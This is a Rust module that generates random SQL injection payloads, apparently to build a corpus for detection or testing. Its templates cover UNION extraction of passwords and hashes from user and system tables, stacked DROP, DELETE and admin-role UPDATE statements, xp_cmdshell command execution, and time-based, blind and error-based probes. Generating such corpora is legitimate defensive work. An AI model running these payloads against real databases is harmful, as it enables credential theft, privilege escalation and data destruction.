//! SQL injection grammar: context break, payload, terminator.

use rand::Rng;

use super::{pick, CorpusRng};

const TABLES: &[&str] = &[
    "users",
    "accounts",
    "admin",
    "members",
    "customers",
    "orders",
    "credentials",
    "information_schema.tables",
    "mysql.user",
    "sysobjects",
    "pg_shadow",
];
const COLUMNS: &[&str] = &[
    "username",
    "password",
    "passwd",
    "email",
    "table_name",
    "column_name",
    "user()",
    "version()",
    "database()",
    "@@version",
    "current_user",
    "name",
    "pass",
    "hash",
];
const STRINGS: &[&str] = &["a", "x", "1", "abc", "admin", "test", "foo", "z", "qwe"];

fn num(rng: &mut CorpusRng) -> u32 {
    rng.gen_range(0..10_000)
}

/// A string or numeric break-out prefix and whether it opened a quote context.
fn prefix(rng: &mut CorpusRng) -> (String, Option<char>) {
    match rng.gen_range(0..12) {
        0 => ("'".into(), Some('\'')),
        1 => ("\"".into(), Some('"')),
        2 => ("')".into(), Some('\'')),
        3 => ("\")".into(), Some('"')),
        4 => (format!("{}'", num(rng)), Some('\'')),
        5 => (format!("{}\"", num(rng)), Some('"')),
        6 => (format!("{}", num(rng)), None),
        7 => (format!("{})", num(rng)), None),
        8 => (format!("-{}", num(rng)), None),
        9 => (
            format!(
                "{}'",
                pick(rng, &["admin", "root", "guest", "test", "john"])
            ),
            Some('\''),
        ),
        10 => ("'))".into(), Some('\'')),
        _ => (format!("{}%'", pick(rng, STRINGS)), Some('\'')),
    }
}

fn tautology(rng: &mut CorpusRng, q: Option<char>) -> String {
    let n = num(rng);
    let s = pick(rng, STRINGS);
    let or = pick(rng, &["OR", "or", "||", "Or"]);
    match (rng.gen_range(0..7), q) {
        (0, _) => format!(" {or} {n}={n}"),
        (1, Some(c)) => format!(" {or} {c}{s}{c}={c}{s}"),
        (2, Some(c)) => format!(" {or} {c}{c}={c}"),
        (3, _) => format!(" {or} {}>{}", n + 1, n),
        (4, Some(c)) => format!(" {or} {c}{s}{c} LIKE {c}{s}"),
        (5, _) => format!(" {or} true"),
        (6, _) => format!(" {or} {n} BETWEEN {} AND {}", n.saturating_sub(1), n + 1),
        _ => format!(" {or} {n}={n}"),
    }
}

fn select_list(rng: &mut CorpusRng) -> String {
    let cols = rng.gen_range(1..6);
    (0..cols)
        .map(|_| match rng.gen_range(0..4) {
            0 => "NULL".to_string(),
            1 => format!("{}", rng.gen_range(1..20)),
            _ => pick(rng, COLUMNS).to_string(),
        })
        .collect::<Vec<_>>()
        .join(",")
}

fn union(rng: &mut CorpusRng) -> String {
    let all = pick(rng, &["", " ALL", " DISTINCT"]);
    let list = select_list(rng);
    if rng.gen_bool(0.5) {
        format!(" UNION{all} SELECT {list} FROM {}", pick(rng, TABLES))
    } else {
        format!(" UNION{all} SELECT {list}")
    }
}

fn stacked(rng: &mut CorpusRng) -> String {
    let t = pick(rng, TABLES);
    match rng.gen_range(0..8) {
        0 => format!("; DROP TABLE {t}"),
        1 => format!(
            "; INSERT INTO {t} VALUES ('{}','{}')",
            pick(rng, STRINGS),
            pick(rng, STRINGS)
        ),
        2 => format!("; UPDATE {t} SET role='admin' WHERE id={}", num(rng)),
        3 => "; EXEC xp_cmdshell 'whoami'".into(),
        4 => "; SHUTDOWN".into(),
        5 => format!("; SELECT pg_sleep({})", rng.gen_range(1..15)),
        6 => format!("; DELETE FROM {t}"),
        _ => format!("; SELECT {} FROM {t}", select_list(rng)),
    }
}

fn time_based(rng: &mut CorpusRng) -> String {
    let n = rng.gen_range(1..15);
    let and = pick(rng, &["AND", "OR", "and", "or"]);
    match rng.gen_range(0..7) {
        0 => format!(" {and} SLEEP({n})"),
        1 => format!(" {and} (SELECT * FROM (SELECT(SLEEP({n})))x)"),
        2 => format!("; WAITFOR DELAY '0:0:{n}'"),
        3 => format!(" {and} BENCHMARK({}000000,MD5({n}))", rng.gen_range(1..9)),
        4 => format!(" {and} pg_sleep({n})"),
        5 => format!(" {and} IF(1=1,SLEEP({n}),0)"),
        _ => format!(
            " {and} {} = (SELECT {} FROM PG_SLEEP({n}))",
            num(rng),
            num(rng)
        ),
    }
}

fn boolean_blind(rng: &mut CorpusRng) -> String {
    let n = rng.gen_range(30..127);
    match rng.gen_range(0..6) {
        0 => format!(" AND {0}={0}", num(rng)),
        1 => format!(" AND {}={}", num(rng), num(rng)),
        2 => format!(
            " AND ASCII(SUBSTRING((SELECT {} FROM {} LIMIT 1),{},1))>{n}",
            pick(rng, COLUMNS),
            pick(rng, TABLES),
            rng.gen_range(1..10)
        ),
        3 => format!(" AND LENGTH(database())>{}", rng.gen_range(1..20)),
        4 => format!(" AND (SELECT COUNT(*) FROM {})>0", pick(rng, TABLES)),
        _ => format!(" AND SUBSTRING(version(),1,1)='{}'", rng.gen_range(4..9)),
    }
}

fn error_based(rng: &mut CorpusRng) -> String {
    match rng.gen_range(0..4) {
        0 => format!(
            " AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT {})))",
            pick(rng, COLUMNS)
        ),
        1 => format!(" AND UPDATEXML(1,CONCAT(0x7e,{}),1)", pick(rng, COLUMNS)),
        2 => " AND 1=CONVERT(int,@@version)".into(),
        _ => " OR 1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)".into(),
    }
}

fn terminator(rng: &mut CorpusRng, q: Option<char>) -> String {
    match (rng.gen_range(0..7), q) {
        (0, _) => "--".into(),
        (1, _) => "-- -".into(),
        (2, _) => "#".into(),
        (3, _) => ";--".into(),
        (4, Some(c)) => format!(" AND {c}{0}{c}={c}{0}", pick(rng, STRINGS)),
        (5, _) => "/*".into(),
        _ => "-- ".into(),
    }
}

/// One SQL injection payload.
pub fn generate(rng: &mut CorpusRng) -> String {
    let (pre, q) = prefix(rng);
    let body = match rng.gen_range(0..9) {
        0 | 1 => tautology(rng, q),
        2 | 3 => union(rng),
        4 => stacked(rng),
        5 => time_based(rng),
        6 => boolean_blind(rng),
        7 => error_based(rng),
        _ => format!(" ORDER BY {}", rng.gen_range(1..30)),
    };
    // Comment truncation alone (admin'--) is an attack too.
    if rng.gen_ratio(1, 12) && q.is_some() {
        return format!("{pre}{}", pick(rng, &["--", "#", "-- -", ";--"]));
    }
    let term = terminator(rng, q);
    format!("{pre}{body}{term}")
}
